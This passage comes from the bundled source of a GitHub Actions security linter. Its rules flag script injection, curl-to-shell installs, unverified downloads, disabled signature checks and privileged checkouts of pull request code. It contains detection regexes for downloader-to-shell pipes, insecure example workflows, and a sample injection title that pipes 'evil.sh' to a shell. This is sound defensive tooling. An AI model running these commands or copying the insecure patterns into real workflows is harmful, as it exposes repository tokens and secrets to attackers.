    remediation: 'Pass the value through `env:` and quote it in the script (`"$VERSION"`); declare inputs as `choice`, `boolean` or `number` where possible, and validate free text.',
    precision: "medium",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "workflow_dispatch", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"]
  },
  check(step, { report, graph }) {
    const workflow = workflowOf(step, graph);
    if (!workflow) return;
    const freeText = triggersOf(workflow).has("workflow_dispatch") ? freeTextInputs(workflow) : /* @__PURE__ */ new Set();
    for (const { expression, range } of expressionsAt(step, ["run"])) {
      for (const value of dispatchedValues(expression, freeText)) {
        report({ at: ["run"], range, message: `user input ${value} is expanded into the run script of ${step.name}: its text becomes shell code (injection)` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  workflow_dispatch:
    inputs:
      version:
        type: string
      dry-run:
        type: boolean
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - env:
          VERSION: \${{ inputs.version }}
        run: ./release.sh "$VERSION" \${{ inputs.dry-run }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  workflow_dispatch:
    inputs:
      version:
        description: Version to release
        required: true
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: ./release.sh "\${{ github.event.inputs.version }}"
`,
        errors: [{ line: 11, column: 28, messageIncludes: "github.event.inputs.version" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-download-without-checksum.ts
var DOWNLOAD = commandPattern(String.raw`(?:curl\b[^\n|;&]*\s(?:-[a-zA-Z]*[oO]\b|--output\b|--remote-name\b)|wget\b(?![^\n|;&]*-[a-zA-Z]*O\s*-)[^\n|;&]*https?:\/\/)`);
var INSTALL = commandPattern(String.raw`(?:chmod\s+(?:[+ugoa]*x|[0-7]*[1357][0-7]{0,2})\b|install\s+(?:-\S+\s+)*\S+\s+\S*\/bin\b|mv\s+\S+\s+\S*\/bin\b|dpkg\s+-i\b|rpm\s+-[iU]|apt(?:-get)?\s+install\s+\.\/|tar\b[^\n]*\s(?:-C|--directory)\s+\S*\/bin\b)`);
var VERIFY = /\b(?:sha(?:1|224|256|384|512)sum|shasum|b2sum|gpg\s+(?:--\S+\s+)*--verify|gpgv|cosign\s+verify|gh\s+attestation\s+verify|slsa-verifier|minisign\s+-V|openssl\s+dgst|Get-FileHash)\b/i;
var gha_download_without_checksum_default = defineRule({
  meta: {
    id: "gha-download-without-checksum",
    title: "Downloaded binary installed without checksum verification",
    severity: "low",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "The script downloads a file and makes it executable or installs it, but never checks it against a known checksum or signature. If the download host, a mirror or the release is tampered with, the job runs the replacement with its token and secrets, and the change leaves no trace in the repository.",
    remediation: "Pin the file's SHA-256 next to its URL and check it before use (`echo \"<sha256>  kubectl\" | sha256sum --check`), verify the publisher's signature, or install the tool through a pinned action or package.",
    precision: "medium",
    cwe: ["CWE-494"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "downloads", "unpinned-dependency"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"]
  },
  check(step, { report }) {
    const script = runScript(step);
    if (script === void 0 || VERIFY.test(script)) return;
    const download = DOWNLOAD.exec(script);
    if (!download) return;
    const install = INSTALL.exec(script.slice(download.index));
    if (!install) return;
    report({ at: ["run"], message: `downloads a file and installs or executes it (\`${install[0].replace(/^[\s;&|(]+/, "").trim()}\`) without checksum or signature verification` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/e2e.yml",
        code: `on: push
jobs:
  e2e:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -fsSLO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl
          echo "7c27adc64a84d1c0cc3dcf7bf4b6e916cc00f3f6f35ffd0cb9c5d7a3c5d0b1f2  kubectl" | sha256sum --check
          chmod +x kubectl
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/e2e.yml",
        code: `on: push
jobs:
  e2e:
    runs-on: ubuntu-latest
    steps:
      - name: Install kubectl
        run: |
          curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl
          chmod +x ./kubectl
          sudo mv ./kubectl /usr/local/bin/kubectl
`,
        errors: [{ line: 7, column: 9, messageIncludes: "chmod +x" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-event-payload-in-script.ts
var WHOLE_EVENT = /\btoJSON\s*\(\s*github(?:\s*\.\s*event)?\s*\)|\bgithub\.event\s*(?:\}|$)/i;
var gha_event_payload_in_script_default = defineRule({
  meta: {
    id: "gha-event-payload-in-script",
    title: "Whole event payload expanded into a script",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "`${{ toJSON(github.event) }}` pastes the entire event into the script: titles, bodies, branch names and commit messages included. JSON escaping does not make it safe for a shell (a `'` ends a single-quoted string) or for JavaScript, so anyone who can open an issue or pull request can inject code.",
    remediation: 'Read the event from the file the runner provides (`jq . "$GITHUB_EVENT_PATH"`, `context.payload` in github-script), or pass the fields you need through `env:`.',
    precision: "high",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"]
  },
  check(step, { report }) {
    const scripts = [["run"]];
    if (usesAction(step, "actions/github-script") && typeof getPath(step.attributes, ["with", "script"]) === "string") scripts.push(["with", "script"]);
    for (const path of scripts) {
      for (const { expression, range } of expressionsAt(step, path)) {
        if (WHOLE_EVENT.test(expression)) {
          report({ at: path, range, message: `\${{ ${expression} }} expands the whole github.event payload, attacker-controlled text included, into the ${path.join(".")} script` });
        }
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/debug.yml",
        code: `on: pull_request_target
jobs:
  debug:
    runs-on: ubuntu-latest
    steps:
      - run: jq . "$GITHUB_EVENT_PATH"
      - env:
          EVENT: \${{ toJSON(github.event) }}
        run: echo "$EVENT" | jq .action
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/debug.yml",
        code: `on: issues
jobs:
  debug:
    runs-on: ubuntu-latest
    steps:
      - run: echo '\${{ toJSON(github.event) }}' > event.json
`,
        errors: [{ line: 6, column: 20 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-known-vulnerable-action.ts
var gha_known_vulnerable_action_default = defineRule({
  meta: {
    id: "gha-known-vulnerable-action",
    title: "Action or reusable workflow version with a known vulnerability",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step", "job"],
    description: "The referenced version of the action or reusable workflow is affected by a published security advisory, for example code injection from pull request content. The workflow inherits the flaw with its token and secrets until it moves to a fixed release.",
    remediation: "Upgrade to the fixed release named in the advisory and pin it by commit SHA.",
    precision: "very-high",
    cwe: ["CWE-1395"],
    frameworks: { "OpenSSF Scorecard": ["Vulnerabilities"] },
    tags: ["actions", "vulnerable-component"],
    references: ["https://github.com/advisories?query=type%3Areviewed+ecosystem%3Aactions"]
  },
  check(resource, { report }) {
    const target = remoteTarget(resource);
    if (!target) return;
    const advisory = advisoryFor(VULNERABLE_ACTIONS, target.name, target.ref);
    if (!advisory) return;
    report({ at: ["uses"], message: `${target.name}@${target.ref} has a known vulnerability, ${advisory.id}: ${advisory.summary}; fixed in ${advisory.fixed}` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/terraform.yml",
        code: `on: pull_request
jobs:
  plan:
    uses: kartverket/github-workflows/.github/workflows/run-terraform.yml@v2.7.5
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/terraform.yml",
        code: `on: pull_request
jobs:
  plan:
    uses: kartverket/github-workflows/.github/workflows/run-terraform.yml@v2.6
`,
        errors: [{ line: 4, column: 5, messageIncludes: "GHSA-f9qj-7gh3-mhj4" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-remote-script-exec.ts
var DOWNLOADER = String.raw`(?:curl|wget|iwr|Invoke-WebRequest|irm|Invoke-RestMethod)\b`;
var INTERPRETER = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k)?sh|python[23]?|perl|ruby|node|pwsh|iex|Invoke-Expression`;
var REMOTE_EXEC = [
  new RegExp(String.raw`${DOWNLOADER}[^\n|;&]*\|\s*(?:${INTERPRETER})\b[^\n]*`, "i"),
  new RegExp(String.raw`(?:${INTERPRETER})\s+(?:-\S+\s+)*<\(\s*${DOWNLOADER}[^\n]*`, "i"),
  new RegExp(String.raw`(?:${INTERPRETER})\s+(?:-\S+\s+)*-c\s+["']?\$\(\s*${DOWNLOADER}[^\n]*`, "i")
];
var PINNED_URL = /https?:\/\/\S*\/(?:[0-9a-f]{40}|\$\{?GITHUB_SHA\}?|\$\{\{\s*github\.sha\s*\}\})\/\S*/i;
var gha_remote_script_exec_default = defineRule({
  meta: {
    id: "gha-remote-script-exec",
    title: "Script downloaded and executed without verification",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "`curl … | sh` runs whatever the server returns at that moment, with the job's token and secrets. A compromised host, a moved branch in the URL, or a hijacked domain changes the code without any change to the workflow, and nothing checks what was run.",
    remediation: "Download to a file, verify its checksum or signature (`sha256sum --check`), then run it; or fetch it from a URL pinned to a commit SHA or a versioned release asset; or use a pinned action or package instead.",
    precision: "high",
    cwe: ["CWE-494", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "remote-script-exec"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"]
  },
  check(step, { report }) {
    const script = runScript(step);
    if (script === void 0) return;
    for (const line of script.replace(/\\\r?\n/g, " ").split("\n")) {
      const match = REMOTE_EXEC.map((pattern) => pattern.exec(line)).find((found) => found !== null);
      if (!match) continue;
      const urls = line.match(/https?:\/\/[^\s"'|)]+/g) ?? [];
      if (urls.length > 0 && urls.every((url) => PINNED_URL.test(url))) continue;
      report({ at: ["run"], message: `remote script piped to a shell without verification: \`${match[0].trim().slice(0, 120)}\`` });
      return;
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  setup:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -fsSLo install.sh https://get.acme.dev/install.sh
          echo "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9  install.sh" | sha256sum --check
          sh install.sh
      - run: curl -fsSL https://raw.githubusercontent.com/acme/tools/2f6d1c1b6e4f0a3c9d8e7b6a5f4e3d2c1b0a9f8e/install.sh | bash
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  setup:
    runs-on: ubuntu-latest
    steps:
      - name: Install tool
        run: |
          set -e
          curl -fsSL https://raw.githubusercontent.com/acme/tools/main/install.sh | sudo bash -s -- --yes
      - run: bash <(wget -qO- https://get.acme.dev)
`,
        errors: [
          { line: 7, column: 9, messageIncludes: "curl" },
          { line: 10, column: 9, messageIncludes: "wget" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-self-hosted-runner-pull-request.ts
function labelsOf(runsOn) {
  if (typeof runsOn === "string") return [runsOn];
  if (Array.isArray(runsOn)) return runsOn.filter((label) => typeof label === "string");
  if (isObject(runsOn)) return labelsOf(runsOn.labels);
  return [];
}
var gha_self_hosted_runner_pull_request_default = defineRule({
  meta: {
    id: "gha-self-hosted-runner-pull-request",
    title: "Self-hosted runner used by a pull request workflow",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["job"],
    description: "In a public repository, anyone can open a pull request from a fork and run code on the runners of workflows it triggers. Self-hosted runners are not wiped between jobs: that code can persist on the machine, read the next job's secrets, or reach the network the runner sits in.",
    remediation: "Use GitHub-hosted runners for pull request workflows, or ephemeral, isolated self-hosted runners (just-in-time, one job each) in a runner group not available to public repositories; require approval for workflows from outside contributors.",
    precision: "medium",
    cwe: ["CWE-668"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "self-hosted", "ci-untrusted-checkout"],
    references: ["https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security"]
  },
  check(job, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(job, graph)), PUBLIC_PULL_REQUEST_TRIGGERS);
    if (!trigger) return;
    if (!labelsOf(job.attributes["runs-on"]).some((label) => label.trim().toLowerCase() === "self-hosted")) return;
    report({ at: ["runs-on"], message: `${job.name} runs on a self-hosted runner in a workflow triggered by ${trigger}, so fork pull requests can run code on it` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/nightly.yml",
        code: `on:
  schedule:
    - cron: "0 3 * * *"
jobs:
  soak:
    runs-on: [self-hosted, linux, gpu]
    steps:
      - run: make soak
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: [push, pull_request]
jobs:
  test:
    runs-on: [self-hosted, linux]
    steps:
      - run: make test
`,
        errors: [{ line: 4, column: 5, messageIncludes: "pull_request" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-signature-verification-disabled.ts
var UNVERIFIED = [
  [/\bhelm\s+plugin\s+install\b[^\n]*--verify(?:=|\s+)false\b/, "helm plugin install --verify=false"],
  [/\bapt(?:-get)?\b[^\n]*--allow-unauthenticated\b/, "apt --allow-unauthenticated"],
  [/\bapt(?:-get)?\b[^\n]*--allow-insecure-repositories\b/, "apt --allow-insecure-repositories"],
  [/\bdeb\s+\[[^\]]*trusted=yes[^\]]*\]/, "an apt source marked trusted=yes"],
  [/\b(?:yum|dnf|zypper)\b[^\n]*--nogpgcheck\b/, "--nogpgcheck"],
  [/\brpm\b[^\n]*--nosignature\b/, "rpm --nosignature"],
  [/\bgpgcheck\s*=\s*0\b/, "gpgcheck=0"],
  [/\bGOSUMDB=off\b|\bGONOSUMCHECK=|\bGOFLAGS=[^\n]*-insecure\b/, "Go checksum database disabled"],
  [/\bnpm\s+(?:install|i|ci)\b[^\n]*--no-verify\b/, "npm --no-verify"],
  [/\bcosign\s+verify\b[^\n]*--insecure-ignore-(?:tlog|sct)\b/, "cosign verify without transparency log"]
];
var gha_signature_verification_disabled_default = defineRule({
  meta: {
    id: "gha-signature-verification-disabled",
    title: "Package or plugin installed with signature verification disabled",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "The script turns off the check that proves a downloaded package, plugin or repository comes from its publisher (`--verify=false`, `--allow-unauthenticated`, `--nogpgcheck`, `GOSUMDB=off`). Whatever a mirror, a proxy or a compromised source serves is then installed and run with the job's token and secrets.",
    remediation: "Remove the switch and import the publisher's signing key, pin the version and checksum, or install from a source that can be verified.",
    precision: "high",
    cwe: ["CWE-347", "CWE-494"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "verification", "unpinned-dependency"],
    references: ["https://helm.sh/docs/topics/provenance/"]
  },
  check(step, { report }) {
    const script = runScript(step);
    if (script === void 0) return;
    const found = UNVERIFIED.find(([pattern]) => pattern.test(script));
    if (found) report({ at: ["run"], message: `installs without signature verification (${found[1]}): unverified code from the network runs in the job` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/chart.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: helm plugin install https://github.com/helm-unittest/helm-unittest --version 0.5.1
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/chart.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - name: Install plugin
        run: helm plugin install https://github.com/helm-unittest/helm-unittest --verify=false
`,
        errors: [{ line: 7, column: 9, messageIncludes: "--verify=false" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-spoofable-bot-check.ts
var ACTOR_IS_BOT = /\bgithub\.(?:actor|triggering_actor)\s*==\s*'[^']*\[bot\]'|'[^']*\[bot\]'\s*==\s*github\.(?:actor|triggering_actor)\b|contains\s*\(\s*github\.(?:actor|triggering_actor)\s*,\s*'\[bot\]'\s*\)|endsWith\s*\(\s*github\.(?:actor|triggering_actor)\s*,\s*'\[bot\]'\s*\)/i;
var gha_spoofable_bot_check_default = defineRule({
  meta: {
    id: "gha-spoofable-bot-check",
    title: "Privileged job trusts a pull request because of who triggered the event",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["job", "step"],
    description: "`github.actor` is the user who caused the latest event, not the pull request's author. When a bot such as Dependabot updates or rebases an outsider's pull request, or an attacker gets it to act on their branch, a condition like `github.actor == 'dependabot[bot]'` is true for code the bot did not write, and a `pull_request_target` or `workflow_run` job auto-merges or runs it with its privileges.",
    remediation: "Check the pull request's author instead (`github.event.pull_request.user.login == 'dependabot[bot]'`) and, for Dependabot, use `dependabot/fetch-metadata`; never auto-approve on the actor alone.",
    precision: "medium",
    cwe: ["CWE-290"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "bot-conditions", "ci-untrusted-input"],
    references: ["https://securitylab.github.com/resources/github-actions-building-blocks/"]
  },
  check(resource, { report, graph }) {
    const condition = resource.attributes.if;
    if (typeof condition !== "string" || !ACTOR_IS_BOT.test(condition)) return;
    const trigger = hasAnyTrigger(triggersOf(workflowOf(resource, graph)), [...PRIVILEGED_UNTRUSTED_TRIGGERS, "pull_request"]);
    if (!trigger) return;
    report({ at: ["if"], message: `${resource.name} trusts the ${trigger} event because github.actor is a bot, which whoever triggers the latest event can spoof` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/automerge.yml",
        code: `on: pull_request_target
jobs:
  automerge:
    if: github.event.pull_request.user.login == 'dependabot[bot]'
    runs-on: ubuntu-latest
    steps:
      - run: gh pr merge --auto --squash "$PR"
        env:
          PR: \${{ github.event.pull_request.html_url }}
          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/automerge.yml",
        code: `on: pull_request_target
jobs:
  automerge:
    if: github.actor == 'dependabot[bot]'
    runs-on: ubuntu-latest
    steps:
      - run: gh pr merge --auto --squash "$PR"
        env:
          PR: \${{ github.event.pull_request.html_url }}
          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
`,
        errors: [{ line: 4, column: 5, messageIncludes: "github.actor" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-template-injection.ts
var gha_template_injection_default = defineRule({
  meta: {
    id: "gha-template-injection",
    title: "Attacker-controlled context expanded into a script",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: 'A `${{ }}` expression that reads text an outsider controls (an issue or pull request title or body, a comment, a branch name, a commit message…) is pasted into a shell script or an `actions/github-script` script before it runs. A title such as `"; curl evil.sh | sh; echo "` then runs with the job\'s token and secrets.',
    remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`"$TITLE"`), or as `process.env.TITLE` in github-script.',
    precision: "high",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"]
  },
  check(step, { report, graph }) {
    const scriptPaths = [["run"]];
    const uses = typeof step.attributes.uses === "string" ? parseUses(step.attributes.uses) : void 0;
    if (uses?.kind === "repository" && `${uses.owner}/${uses.repo}`.toLowerCase() === "actions/github-script") scriptPaths.push(["with", "script"]);
    let tainted;
    for (const path of scriptPaths) {
      for (const { expression, range } of expressionsAt(step, path)) {
        if (yieldsBoolean(expression)) continue;
        for (const context of attackerControlledContexts(expression)) {
          report({ at: path, range, message: `${context} is expanded into the ${path.join(".")} script of ${step.name}: anyone who controls it can run code in this job` });
        }
        for (const match of expression.matchAll(/(?<![\w.])env\.([A-Za-z_][\w-]*)/g)) {
          const context = (tainted ??= attackerControlledEnv(step, graph)).get(match[1]);
          if (context) report({ at: path, range, message: `env.${match[1]} holds ${context} and is expanded into the ${path.join(".")} script of ${step.name}: anyone who controls it can run code in this job` });
        }
      }
    }
  },
  examples: {
    valid: [
      {
        name: "value passed through the environment",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "$TITLE"
      - run: echo "Run \${{ github.run_id }}"
      - run: echo "\${{ contains(github.event.issue.title, '[bug]') }}"
`
      }
    ],
    invalid: [
      {
        name: "issue title in a run block",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "Thanks"
          echo "\${{ github.event.issue.title }}"
`,
        errors: [{ line: 8, column: 17, messageIncludes: "github.event.issue.title" }]
      },
      {
        name: "pull request head ref in github-script",
        filename: ".github/workflows/pr.yml",
        code: `on: pull_request_target
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: console.log("\${{ github.event.pull_request.head.ref }}")
`,
        errors: [{ line: 8, column: 32, messageIncludes: "head.ref" }]
      },
      {
        name: "job environment variable set from the title, expanded with env",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    env:
      TITLE: \${{ github.event.issue.title }}
    steps:
      - run: echo "\${{ env.TITLE }}"
`,
        errors: [{ line: 8, column: 20, messageIncludes: "env.TITLE" }]
      },
      {
        name: "composite action step",
        filename: ".github/actions/label/action.yml",
        code: `name: Label
description: Labels the pull request from its branch name
runs:
  using: composite
  steps:
    - shell: bash
      run: ./label.sh \${{ github.event.pull_request.head.ref }}
`,
        errors: [{ line: 7, column: 23, messageIncludes: "head.ref" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-unsecure-commands.ts
var gha_unsecure_commands_default = defineRule({
  meta: {
    id: "gha-unsecure-commands",
    title: "Deprecated set-env and add-path workflow commands re-enabled",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns back on the `::set-env` and `::add-path` commands that GitHub disabled because any text a step prints could use them. A log line that echoes a pull request title, a file name or a dependency's output can then set `LD_PRELOAD`, `NODE_OPTIONS` or the `PATH` of every later step and run code there.",
    remediation: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead; upgrade actions that still print `::set-env`.",
    precision: "very-high",
    cwe: ["CWE-77"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "ci-insecure-setting"],
    references: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"]
  },
  check(resource, { report }) {
    const env = resource.attributes.env;
    if (!isObject(env)) return;
    for (const [name, value] of Object.entries(env)) {
      if (name.toUpperCase() === "ACTIONS_ALLOW_UNSECURE_COMMANDS" && isTrue(value)) {
        report({ at: ["env", name], message: `${resource.name} sets ACTIONS_ALLOW_UNSECURE_COMMANDS, re-enabling the insecure set-env and add-path commands` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$HOME/.local/bin" >> "$GITHUB_PATH"
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
    steps:
      - run: echo "::add-path::$HOME/.local/bin"
`,
        errors: [{ line: 6, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-checkout-exec.ts
var gha_untrusted_checkout_exec_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout-exec",
    title: "Privileged workflow runs code from a pull request",
    severity: "critical",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "After checking out a pull request's code, this `pull_request_target`, `workflow_run` or `issue_comment` job runs something from that tree: a package install with its lifecycle scripts, a Makefile, a test suite, a repository script or a local action. The pull request's author decides what that code does, and it runs with the repository's secrets and a token that can write.",
    remediation: "Run builds and tests of pull requests in a `pull_request` workflow. In the privileged workflow, work only on trusted code (the base branch) and read the pull request's results as artifacts, treated as data.",
    precision: "high",
    cwe: ["CWE-829", "CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "pull_request_target", "workflow_run", "ci-untrusted-checkout"],
    references: ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"]
  },
  check(step, { report, graph }) {
    const workflow = workflowOf(step, graph);
    const trigger = hasAnyTrigger(triggersOf(workflow), ["pull_request_target", "workflow_run", "issue_comment"]);
    const job = jobOf(step, graph);
    if (!trigger || !job) return;
    const checkout = firstUntrustedCheckout(job, graph);
    if (!checkout) return;
    const index = stepsOf(job, graph).indexOf(step);
    if (index <= checkout.index) return;
    if (trigger === "issue_comment" && commenterChecked(job, checkout.step, graph)) return;
    const what = workspaceCodeRun(step);
    if (!what) return;
    report({
      at: step.attributes.run !== void 0 ? ["run"] : ["uses"],
      message: `runs ${what} on untrusted code checked out from the pull request head in a ${trigger} workflow, with the repository's token and secrets`,
      related: [{ resource: checkout.step.id, at: checkout.checkout.at, message: `untrusted checkout (${checkout.checkout.what})` }]
    });
  },
  examples: {
    valid: [
      {
        name: "base branch checkout, then build",
        filename: ".github/workflows/size.yml",
        code: `on: pull_request_target
jobs:
  size:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - run: npm ci && npm run size
`
      },
      {
        name: "head checked out but only read",
        filename: ".github/workflows/lint-title.yml",
        code: `on: pull_request_target
jobs:
  files:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          path: pr
      - run: echo "npm install is not run here"; ls pr
`
      }
    ],
    invalid: [
      {
        name: "install after checking out the head",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af
      - run: npm ci
      - uses: ./.github/actions/deploy-preview
`,
        errors: [
          { line: 10, column: 9, messageIncludes: "npm ci" },
          { line: 11, column: 9, messageIncludes: "local action" }
        ]
      },
      {
        name: "comment-triggered test run without a commenter check",
        filename: ".github/workflows/retest.yml",
        code: `on: issue_comment
jobs:
  retest:
    if: github.event.issue.pull_request && contains(github.event.comment.body, '/retest')
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: refs/pull/\${{ github.event.issue.number }}/head
      - run: make test
`,
        errors: [{ line: 10, column: 9, messageIncludes: "make" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-checkout.ts
var gha_untrusted_checkout_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout",
    title: "Privileged workflow checks out pull request code",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "`pull_request_target` and `workflow_run` workflows run with the base repository's secrets and a token that can write, even for pull requests from forks. Checking out the pull request's head (or the head of the run that triggered the workflow) puts code an outsider wrote into that privileged job, where any build script, test or local action can steal the token and secrets (a \"pwn request\").",
    remediation: "Build and test untrusted code in a `pull_request` workflow, which has no secrets and a read-only token for forks. If the privileged workflow needs the results, pass them as artifacts and treat them as data. If it must see the code, check it out into a separate directory and never execute anything from it.",
    precision: "high",
    cwe: ["CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "pull_request_target", "workflow_run", "ci-untrusted-checkout"],
    references: [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target"
    ]
  },
  check(step, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(step, graph)), ["pull_request_target", "workflow_run"]);
    if (!trigger) return;
    const checkout = untrustedCheckout(step);
    if (!checkout) return;
    const whose = trigger === "workflow_run" ? "the head of the run that triggered it" : "the pull request head";
    report({
      at: checkout.at,
      message: `this ${trigger} workflow checks out ${whose} (${checkout.what}): untrusted code then runs with the repository's token and secrets`
    });
  },
  examples: {
    valid: [
      {
        name: "checkout without ref checks out the base branch",
        filename: ".github/workflows/label.yml",
        code: `on: pull_request_target
permissions:
  pull-requests: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
